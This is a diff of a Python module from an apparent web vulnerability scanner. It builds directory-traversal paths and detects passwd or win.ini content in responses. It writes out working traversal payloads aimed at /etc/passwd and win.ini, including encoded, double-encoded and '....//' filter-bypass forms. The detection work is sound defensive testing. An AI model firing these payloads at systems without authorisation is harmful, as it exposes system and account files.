@@ -1,10 +1,13 @@
 """Pure judges of the traversal family: the paths it sends, and file contents in their format.
 
 Payloads name `/etc/passwd` and `win.ini`, relative (`../` eight deep, enough for most web
-roots), absolute, percent-encoded (`..%2f`, `%2e%2e%2f`), double-encoded (`%252e%252e%252f`),
-with a filter bypass (`....//`, which becomes `../` when `../` is stripped once), and with
-Windows separators (`..\\`, `c:\\`). Encoded payloads are `wire` values: they go on the wire
-as written.
+roots), absolute, after the original value's own folder (`reports/../../etc/passwd`, for a
+check that only looks at how the path starts), percent-encoded (`..%2f`, `%2e%2e%2f`),
+double-encoded (`%252e%252e%252f`), with a filter bypass (`....//`, which becomes `../` when
+`../` is stripped once), and with Windows separators (`..\\`, `c:\\`). Encoded payloads are
+`wire` values: they go on the wire as written. Each payload also names the same file without
+climbing (`Payload.stays`), the control that tells a read outside the folder from a file the
+folder holds itself.
 
 A file counts only in its own format, never by a keyword:
 
@@ -14,19 +17,24 @@ A file counts only in its own format, never by a keyword:
   `[extensions]`, `[mci extensions]`, `[files]`, `[Mail]`, ...).
 
 Lines that any baseline answer already holds do not count (a page that shows a sample passwd
-file on every answer proves nothing), and the body is read as sent, as its JSON strings and
-as HTML without tags (`signatures.text_views`).
+file on every answer proves nothing), and the body is read as sent, as its JSON strings, as
+the text that base64 JSON strings decode to (a file API that sends contents base64-encoded),
+and as HTML without tags (`signatures.text_views`).
 """
 
 from __future__ import annotations
 
+import base64
+import binascii
+import posixpath
 import re
-from collections.abc import Iterable
+from collections.abc import Iterable, Iterator
 from dataclasses import dataclass
-from typing import Literal
+from itertools import islice
+from typing import Any, Literal
 
 from probe.exchange import ResponseRecord
-from probe.probes.signatures import text_views
+from probe.probes.signatures import JSON_NODES, SCAN_HEAD, text_views, walk_json
 
 FileKind = Literal["passwd", "win.ini"]
 
@@ -62,7 +70,13 @@ _WININI_SECTIONS = frozenset(
     }
 )
 # Password fields that hold no secret: shown as they are in an excerpt.
+_WIN_INI = "windows\\win.ini"
 _NO_SECRET = frozenset({"", "x", "*", "!", "!!", "!*"})
+# Strict base64 (line breaks allowed, as in e-mail and GitHub's contents API); shorter strings
+# cannot hold three passwd lines.
+_BASE64 = re.compile(r"(?:[A-Za-z0-9+/]{4})+(?:[A-Za-z0-9+/]{2}==|[A-Za-z0-9+/]{3}=)?")
+_BASE64_MIN = 64
+_LINE_BREAKS = re.compile(r"\r?\n")
 
 
 @dataclass(frozen=True)
@@ -74,12 +88,16 @@ class Payload:
         value: The path as sent.
         wire: Sent exactly as written (already percent-encoded).
         kind: The file it names.
+        stays: The same file named without climbing, in the same encoding (`etc/passwd`,
+            and for a path after the original folder also `reports/etc/passwd`): where the
+            climb lands when `..` stops at the folder the server reads from.
     """
 
     label: str
     value: str
     wire: bool
     kind: FileKind
+    stays: tuple[str, ...]
 
     def control(self, name: str) -> str:
         """The same path naming a file `name` that does not exist, in the same folder."""
@@ -93,26 +111,49 @@ class Payload:
         return "passwd" if self.kind == "passwd" else "win.ini"
 
 
-def payloads(depth: int = DEPTH) -> tuple[Payload, ...]:
-    """Every traversal path, in the order they are tried."""
-    up = "../" * depth
+def payloads(depth: int = DEPTH, original: str = "") -> tuple[Payload, ...]:
+    """Every traversal path, in the order they are tried; one more after the folder of
+    `original` (the scenario's value) when it names one."""
     return (
-        Payload("relative `../`", up + "etc/passwd", False, "passwd"),
-        Payload("absolute `/etc/passwd`", "/etc/passwd", False, "passwd"),
-        Payload("encoded `..%2f`", "..%2f" * depth + "etc%2fpasswd", True, "passwd"),
-        Payload("encoded `%2e%2e%2f`", "%2e%2e%2f" * depth + "etc%2fpasswd", True, "passwd"),
+        _climb("relative `../`", "../", "/", depth),
+        Payload("absolute `/etc/passwd`", "/etc/passwd", False, "passwd", ("etc/passwd",)),
+        *_after_folder(original_folder(original), depth),
+        _climb("encoded `..%2f`", "..%2f", "%2f", depth),
+        _climb("encoded `%2e%2e%2f`", "%2e%2e%2f", "%2f", depth),
+        _climb("double-encoded `%252e%252e%252f`", "%252e%252e%252f", "%252f", depth),
+        _climb("filter bypass `....//`", "....//", "/", depth),
         Payload(
-            "double-encoded `%252e%252e%252f`",
-            "%252e%252e%252f" * depth + "etc%252fpasswd",
-            True,
-            "passwd",
+            "relative `..\\` to win.ini", "..\\" * depth + _WIN_INI, False, "win.ini", (_WIN_INI,)
         ),
-        Payload("filter bypass `....//`", "....//" * depth + "etc/passwd", False, "passwd"),
         Payload(
-            "relative `..\\` to win.ini", "..\\" * depth + "windows\\win.ini", False, "win.ini"
+            "absolute `c:\\windows\\win.ini`", "c:\\" + _WIN_INI, False, "win.ini", (_WIN_INI,)
         ),
-        Payload("absolute `c:\\windows\\win.ini`", "c:\\windows\\win.ini", False, "win.ini"),
     )
+
+
+def _climb(label: str, step: str, separator: str, depth: int) -> Payload:
+    """`step` `depth` times, then etc/passwd with `separator`; percent-encoded ones are wire."""
+    target = f"etc{separator}passwd"
+    return Payload(label, step * depth + target, "%" in step, "passwd", (target,))
+
+
+def _after_folder(folder: str, depth: int) -> tuple[Payload, ...]:
+    """The climb after the original value's folder, which a check on the path's start lets
+    through; none without a folder."""
+    if not folder:
+        return ()
+    value = f"{folder}/{'../' * depth}etc/passwd"
+    label = f"relative `../` after the original folder `{folder}/`"
+    return (Payload(label, value, False, "passwd", (f"{folder}/etc/passwd", "etc/passwd")),)
+
+
+def original_folder(original: str) -> str:
+    """The folder part of a path-like original value (`reports` of `reports/2024.txt`), or ""
+    when it has none worth keeping (no `/`, the root, a URL, a climb of its own)."""
+    if "://" in original or original.startswith("//") or ".." in original:
+        return ""
+    folder = posixpath.dirname(original).rstrip("/")
+    return "" if folder in ("", ".") else folder
 
 
 @dataclass(frozen=True)
@@ -134,9 +175,35 @@ class FileContent:
 
 
 def texts(response: ResponseRecord) -> list[str]:
-    """A body as sent and as a reader sees it (JSON strings decoded, HTML tags dropped)."""
+    """A body as sent and as a reader sees it (JSON strings decoded, HTML tags dropped), and
+    the text its base64 JSON strings decode to."""
     views = text_views(response.text(), response.content_type)
-    return [views.raw] if views.plain == views.raw else [views.raw, views.plain]
+    found = [views.raw] if views.plain == views.raw else [views.raw, views.plain]
+    if views.is_json:
+        decoded = "\n".join(base64_texts(views.data))
+        if decoded:
+            found.append(decoded)
+    return found
+
+
+def base64_texts(data: Any) -> Iterator[str]:
+    """The text of each JSON string in `data` that is strict base64 of UTF-8 text (long
+    enough to hold a file), within the scan's bounds."""
+    total = 0
+    for _, value in islice(walk_json(data), JSON_NODES):
+        if not isinstance(value, str) or len(value) < _BASE64_MIN:
+            continue
+        total += len(value)
+        if total > SCAN_HEAD:
+            return
+        compact = _LINE_BREAKS.sub("", value)
+        if not _BASE64.fullmatch(compact):
+            continue
+        try:
+            yield base64.b64decode(compact, validate=True).decode("utf-8")
+        # Binary content (an image, a zip) is no text file.
+        except (binascii.Error, UnicodeDecodeError):
+            continue
 
 
 def passwd_lines(text: str) -> list[str]:
